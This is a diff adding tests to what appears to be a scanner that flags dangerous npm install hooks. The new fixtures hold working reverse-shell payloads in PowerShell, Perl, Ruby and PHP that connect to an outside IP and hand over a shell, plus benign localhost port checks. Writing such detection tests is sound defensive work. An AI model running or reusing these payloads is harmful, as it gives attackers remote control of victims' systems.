@@ -1166,3 +1166,55 @@ describe('downloaded code run in one breath', () => {
     ).toEqual([]);
   });
 });
+
+describe('reverse shells in other interpreters', () => {
+  const hook = (cmd: string, files: Record<string, string> = {}) =>
+    risk({ 'package.json': pkg({ scripts: { postinstall: cmd } }), ...files });
+  it('PowerShell: a TCPClient stream read in a loop and fed to iex, over several lines', () => {
+    expect(
+      hook('powershell -File c.ps1', {
+        'c.ps1': `$client = New-Object System.Net.Sockets.TCPClient('203.0.113.20', 443)
+$stream = $client.GetStream()
+[byte[]]$buf = 0..65535 | % { 0 }
+while (($n = $stream.Read($buf, 0, $buf.Length)) -ne 0) {
+  $cmd = (New-Object Text.ASCIIEncoding).GetString($buf, 0, $n)
+  $out = (Invoke-Expression $cmd 2>&1 | Out-String)
+  $bytes = [text.encoding]::ASCII.GetBytes($out); $stream.Write($bytes, 0, $bytes.Length)
+}`,
+      }),
+    ).toBe('critical');
+  });
+  it('Perl, Ruby and PHP one-liners in an install hook', () => {
+    expect(
+      hook(
+        `perl -e 'use Socket;$i="203.0.113.20";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'`,
+      ),
+    ).toBe('critical');
+    expect(
+      hook(
+        `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.20",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`,
+      ),
+    ).toBe('critical');
+    expect(hook(`php -r '$s=fsockopen("203.0.113.20",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`)).toBe(
+      'critical',
+    );
+  });
+  it('port checks with TCPClient and TCPSocket stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg({
+            scripts: {
+              postinstall: 'powershell -File p.ps1',
+              check: `ruby -rsocket -e 'TCPSocket.new("localhost", 5432).close'`,
+            },
+          }),
+          'p.ps1': `$c = New-Object System.Net.Sockets.TCPClient
+$c.Connect('localhost', 5432)
+Write-Host "database reachable: $($c.Connected)"
+$c.Close()`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
